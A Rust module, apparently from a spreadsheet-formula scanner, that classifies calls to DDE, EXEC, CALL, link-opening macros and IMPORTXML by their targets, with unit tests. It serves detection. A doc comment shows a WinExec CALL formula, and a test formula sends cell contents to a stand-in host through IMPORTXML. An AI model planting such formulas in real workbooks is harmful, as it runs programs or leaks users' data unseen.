//! What a call of a listed function says, where it stands (`spec/excel.md` §1.5).

use super::evidence::What;
use crate::formula::dde_call;
use crate::formula::functions::{Call, Class, UNKNOWN};
use crate::formula::scan::names_program;
use crate::link::Confidence;

/// What a call says.
#[derive(Debug, PartialEq, Eq)]
pub(super) struct Said {
    pub(super) what: What,
    /// Service, topic and item of DDE; the target of anything else first.
    pub(super) words: [String; 3],
    pub(super) confidence: Confidence,
    /// Some of it is only known when the workbook is calculated.
    pub(super) unresolved: bool,
}

/// What `call` says, if it matters where it stands. `macros`: macro functions work there.
/// `entered`: the text is typed in, by Google Sheets as well as by Excel.
pub(super) fn said(call: &Call, macros: bool, entered: bool) -> Option<Said> {
    let word = |at: usize| call.arguments.get(at).map_or("", |a| a.text.as_str());
    let constant = |count: usize| call.arguments.iter().take(count).all(|a| a.constant);
    let mut what = What::Call(call.name, call.class);
    let mut confidence = Confidence::High;
    let mut unresolved = false;
    let words = match call.class {
        Class::DdeFunction => {
            let triple = dde_call::triple(call)?;
            what = What::DdeCall;
            unresolved = !triple.known;
            if unresolved {
                confidence = Confidence::Low;
            }
            [
                triple.service,
                triple.topic,
                triple.item.unwrap_or_default(),
            ]
        }
        Class::Fetch => {
            unresolved = !constant(1);
            [word(0).to_owned(), String::new(), String::new()]
        }
        Class::Click => {
            let target = word(0);
            let tail = target.strip_prefix(UNKNOWN);
            // A file name after what a cell says still names a file.
            let nothing = tail.is_some_and(|tail| !tail.contains(['.', '\\', ':']));
            if target.is_empty() || target.starts_with('#') || nothing {
                // A place in this workbook, or wherever a cell says: ordinary.
                return None;
            }
            unresolved = !constant(1);
            [target.to_owned(), String::new(), String::new()]
        }
        Class::Server => [word(0).to_owned(), word(1).to_owned(), String::new()],
        Class::Execute if matches!(call.name, "CALL" | "REGISTER.ID") && !macros => {
            // Excel takes these two on worksheets as well; a function of the user's own with
            // that name has numbers and cells for arguments, not the name of a library.
            if !word(0).replace(UNKNOWN, "").contains(char::is_alphabetic) {
                return None;
            }
            confidence = Confidence::Medium;
            unresolved = !constant(usize::MAX);
            [spelled(call), String::new(), String::new()]
        }
        Class::Execute | Class::Dde | Class::Run | Class::Write
            if !macros || call.arguments.is_empty() =>
        {
            return None;
        }
        Class::Run => {
            // It mostly runs a macro.
            if !names_program(word(0)) {
                return None;
            }
            unresolved = !constant(1);
            [word(0).to_owned(), String::new(), String::new()]
        }
        Class::Write => return None,
        Class::Execute if call.name == "EXEC" => {
            unresolved = !constant(1);
            [word(0).to_owned(), String::new(), String::new()]
        }
        Class::Execute => {
            unresolved = !constant(usize::MAX);
            [spelled(call), String::new(), String::new()]
        }
        Class::Dde => {
            // What is poked and asked for comes from cells; the program does not.
            unresolved = call.name == "INITIATE" && !constant(1);
            if call.name == "INITIATE" {
                [word(0).to_owned(), word(1).to_owned(), String::new()]
            } else {
                // The first argument is the channel.
                [String::new(), String::new(), word(1).to_owned()]
            }
        }
        Class::Sheets if !entered => return None,
        Class::Sheets => {
            unresolved = !constant(1);
            [word(0).to_owned(), String::new(), String::new()]
        }
        // SQL.REQUEST is a worksheet function as well.
        Class::Link if !macros && call.name != "SQL.REQUEST" => return None,
        Class::Link => {
            // CHANGE.LINK names the old document first.
            let at = usize::from(call.name == "CHANGE.LINK");
            let target = word(at);
            if target.replace(UNKNOWN, "").is_empty() {
                return None;
            }
            unresolved = !call.arguments.get(at).is_some_and(|a| a.constant);
            [target.to_owned(), String::new(), String::new()]
        }
    };
    Some(Said {
        what,
        words,
        confidence,
        unresolved,
    })
}

/// A call with its arguments as far as they are known: `CALL("Kernel32","WinExec","JCJ","calc",0)`.
fn spelled(call: &Call) -> String {
    let words: Vec<String> = call
        .arguments
        .iter()
        .map(|argument| {
            let text = &argument.text;
            if text == UNKNOWN || text.bytes().all(|b| b.is_ascii_digit()) {
                text.clone()
            } else {
                format!("\"{}\"", text.replace('"', "\"\""))
            }
        })
        .collect();
    format!("{}({})", call.name, words.join(","))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::formula::functions::calls;

    fn targets(text: &str, macros: bool, entered: bool) -> Vec<(Class, String, bool)> {
        calls(text)
            .filter_map(|call| {
                let said = said(&call, macros, entered)?;
                let [first, ..] = said.words;
                Some((call.class, first, said.unresolved))
            })
            .collect()
    }

    #[test]
    fn functions_of_google_sheets_matter_in_text_that_is_entered() {
        // `spec/excel.md` §5.5.
        let text = "=IMPORTXML(CONCAT(\"http://x?v=\",CONCATENATE(A2:E2)),\"//a/a10\")";
        let expected = (Class::Sheets, "http://x?v=<expr>".to_owned(), true);
        assert_eq!(targets(text, false, true), [expected]);
        assert_eq!(targets(text, false, false), []);
        assert_eq!(targets(text, true, false), []);
    }

    #[test]
    fn macros_that_open_links_name_a_document() {
        for (text, expected) in [
            ("OPEN.LINKS(\"C:\\x.xls\")", "C:\\x.xls"),
            ("OPEN(\"\\\\h\\s\\a.xls\",0)", "\\\\h\\s\\a.xls"),
            ("UPDATE.LINK(\"http://x/a.xls\")", "http://x/a.xls"),
            ("CHANGE.LINK(A1,\"b.xls\")", "b.xls"),
            ("SUBSCRIBE.TO(\"x\",1)", "x"),
        ] {
            let found = (Class::Link, expected.to_owned(), false);
            assert_eq!(targets(text, true, false), [found], "{text}");
            assert_eq!(targets(text, false, true), [], "{text}");
        }
        let query = (Class::Link, "DSN=x".to_owned(), false);
        let text = "SQL.REQUEST(\"DSN=x\",,2,\"SELECT 1\")";
        assert_eq!(targets(text, false, false), [query]);
        for text in [
            "UPDATE.LINK(A1)",
            "OPEN()",
            "LINKS()",
            "CHANGE.LINK(\"a.xls\")",
        ] {
            assert_eq!(targets(text, true, false), [], "{text}");
        }
    }
}
